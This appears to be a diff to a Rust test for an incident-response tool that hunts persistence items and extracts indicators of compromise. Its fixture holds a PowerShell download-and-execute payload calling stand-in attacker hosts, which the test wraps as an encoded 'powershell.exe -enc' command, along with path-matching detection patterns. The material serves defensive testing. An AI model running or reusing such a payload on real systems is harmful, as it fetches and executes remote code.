@@ -199,7 +199,7 @@ fn diff_against_a_baseline_and_hunt_indicators() {
             "removed",
             &[(
                 "Other",
-                &format!("powershell.exe -NoP -enc {}", encoded("iwr http://update.evil.example/a.ps1 -o C:\\ProgramData\\a.ps1; iex (iwr http://203.0.113.9/b)")),
+                &format!("powershell.exe -NoP -enc {}", encoded(PAYLOAD)),
             )],
         ),
     ) else {
@@ -246,6 +246,9 @@ fn diff_against_a_baseline_and_hunt_indicators() {
         r"C:\Users\*\AppData\Roaming\*.exe".into(),
         "upd.exe".into(),
         "nothing-like-this.example".into(),
+        r"re:\\appdata\\roaming\\[a-z]{3}\.exe$".into(),
+        r"/^c:\\windows\\temp\\/".into(),
+        r"re:\\appdata\\roaming\\[a-z]{4}\.exe$".into(),
     ];
     let hits = foothold_case::hunt(&target, &iocs).unwrap();
     let scheduled: Vec<(&str, &str)> = hits
@@ -257,10 +260,15 @@ fn diff_against_a_baseline_and_hunt_indicators() {
         scheduled,
         [
             (r"C:\Users\*\AppData\Roaming\*.exe", "added"),
-            ("upd.exe", "added")
+            ("upd.exe", "added"),
+            (r"re:\\appdata\\roaming\\[a-z]{3}\.exe$", "added"),
+            (r"/^c:\\windows\\temp\\/", "changed"),
         ]
     );
     assert!(!hits.iter().any(|h| h.ioc.contains("nothing")));
+    // A regular expression that does not compile is an error naming its line.
+    let bad = foothold_case::hunt(&target, &["# x".into(), "re:(".into()]).unwrap_err();
+    assert!(bad.to_string().starts_with("indicator line 2:"), "{bad}");
     // The indicators of what the items run: the planted program's path on its host, the
     // decoded PowerShell payload and the URLs, domain and address inside it.
     let found = foothold_case::iocs(&target).unwrap();
@@ -273,14 +281,28 @@ fn diff_against_a_baseline_and_hunt_indicators() {
         has("path", "C:\\Users\\eve\\AppData\\Roaming\\upd.exe", "added"),
         "{found:?}"
     );
-    assert!(has("payload", "iwr http://update.evil.example/a.ps1 -o C:\\ProgramData\\a.ps1; iex (iwr http://203.0.113.9/b)", "removed"), "{found:?}");
+    assert!(has("payload", PAYLOAD, "removed"), "{found:?}");
     assert!(
         has("url", "http://update.evil.example/a.ps1", "removed"),
         "{found:?}"
     );
     assert!(has("domain", "update.evil.example", "removed"), "{found:?}");
     assert!(has("ip", "203.0.113.9", "removed"), "{found:?}");
+    // Written without a URL: the bare domain and the IPv6 address (canonical form); the
+    // file names of the payload and the commands (`a.ps1`, `upd.exe`) are not domains.
+    assert!(has("domain", "c2.evil.example", "removed"), "{found:?}");
+    assert!(has("ip", "2001:db8::7", "removed"), "{found:?}");
+    let domains: Vec<&str> = found
+        .iter()
+        .filter(|r| r.kind == "domain")
+        .map(|r| r.value.as_str())
+        .collect();
+    assert_eq!(domains.len(), 2, "{domains:?}");
 }
+
+/// The planted PowerShell script: two URLs, an IPv4 address, a bare domain, an IPv6 address
+/// written long, and a file path.
+const PAYLOAD: &str = "iwr http://update.evil.example/a.ps1 -o C:\\ProgramData\\a.ps1; iex (iwr http://203.0.113.9/b); Resolve-DnsName c2.Evil.example; Test-Connection 2001:DB8:0:0:0:0:0:7";
 
 /// A PowerShell `-EncodedCommand` of `script`, as `iconv` and `base64` (coreutils) make it.
 fn encoded(script: &str) -> String {
